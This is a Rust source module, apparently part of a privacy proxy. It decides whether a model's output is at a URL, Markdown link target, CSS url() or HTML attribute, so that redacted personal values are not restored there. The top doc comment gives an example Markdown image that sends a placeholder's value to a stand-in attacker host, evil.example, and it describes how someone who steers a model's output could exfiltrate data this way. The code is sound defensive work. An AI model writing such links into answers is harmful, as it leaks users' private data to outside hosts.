//! Where in a text are we: in prose, or in an address that somebody else may receive?
//!
//! Whoever can make a model write `![](https://evil.example/?q=<PERSON_…>)` would receive the
//! original as soon as the answer is shown. So nothing is restored in
//!
//! * a URL: from `scheme://`, `www.` or `host.tld/` to white space, `<`, or the closing counterpart
//!   of a quote or bracket right before it;
//! * the target of a Markdown link or image, of a reference definition, and of CSS `url(…)`;
//! * the value of an HTML attribute,
//!
//! unless the client wrote that very value at that very place of that very address itself: then
//! nobody learns anything, and an address of the client's own comes back whole.
//!
//! A text is read as it stands, and with its JSON escapes undone, as whatever shows a member of a
//! document reads it; what one of these readings takes for an address is one. A JSON document is
//! read string by string: there, a URL ends with its string.
//!
//! Reads every byte once at each depth of escapes that occurs and remembers a few; when in doubt, it
//! is an address. What it does not know: a host without a dot and without `//`. Addresses that take
//! shape only behind a value are for `behind`.

mod depth;
mod reading;
mod recent;
mod tag;
mod target;
mod url;

use std::collections::HashSet;
use std::hash::{BuildHasher, RandomState};

use self::depth::Depth;
use crate::Escape;

/// Places in addresses that the client itself wrote a value at.
#[derive(Default)]
pub(crate) struct OwnAddresses {
    keys: RandomState,
    places: HashSet<(u64, usize)>,
    /// What the client wrote behind a value, where that makes an address of it.
    behind: HashSet<(u64, usize)>,
}

impl OwnAddresses {
    /// Remembers that the client wrote an entry's value here, if this is in an address.
    pub(crate) fn note(&mut self, surroundings: &mut Surroundings, entry: usize) {
        surroundings.any_address(&mut |address| {
            let place = address.map(|address| (address, entry));
            self.places.extend(place);
            false
        });
    }

    /// Remembers that the client wrote this directly behind an entry's value.
    pub(crate) fn note_behind(&mut self, entry: usize, behind: &str) {
        self.behind.insert((self.keys.hash_one(behind), entry));
    }

    /// Whether the client itself wrote this directly behind an entry's value.
    pub(crate) fn holds_behind(&self, entry: usize, behind: &str) -> bool {
        let key = (self.keys.hash_one(behind), entry);
        self.behind.contains(&key)
    }

    /// Whether the value of an entry would tell an address what its owner must not learn.
    pub(crate) fn withhold(&self, surroundings: &mut Surroundings, entry: usize) -> bool {
        surroundings.any_address(&mut |address: Option<u64>| {
            address.is_none_or(|address| !self.places.contains(&(address, entry)))
        })
    }
}

/// What is known from the text so far.
pub(crate) struct Surroundings {
    keys: RandomState,
    depth: Depth,
    /// Whether a JSON document may begin here: it was announced, and only white space came.
    may_begin_document: bool,
}

impl Surroundings {
    /// At the beginning of a text, which is announced as written so.
    pub(crate) fn new(own: &OwnAddresses, escape: Escape) -> Self {
        Self {
            keys: own.keys.clone(),
            depth: Depth::default(),
            may_begin_document: escape == Escape::Json,
        }
    }

    /// Reads on. What is announced as JSON and does not begin like a document is any text.
    pub(crate) fn read(&mut self, text: &str) {
        if self.may_begin_document
            && let Some(first) = text.chars().find(|c| !c.is_whitespace())
        {
            self.may_begin_document = false;
            if matches!(first, '{' | '[') {
                self.depth = Depth::document();
            }
        }
        self.depth.read(text, &self.keys);
    }

    /// A placeholder comes next, restored or not; nothing in it opens or closes anything.
    pub(crate) fn pass_over(&mut self, entry: usize) {
        self.may_begin_document = false;
        self.depth.settle(&self.keys);
        self.depth.pass_over(entry);
    }

    /// Whether `is` holds of an address in which a value would stand that came next.
    fn any_address(&mut self, is: &mut impl FnMut(Option<u64>) -> bool) -> bool {
        self.depth.settle(&self.keys);
        self.depth.any_address(is)
    }
}
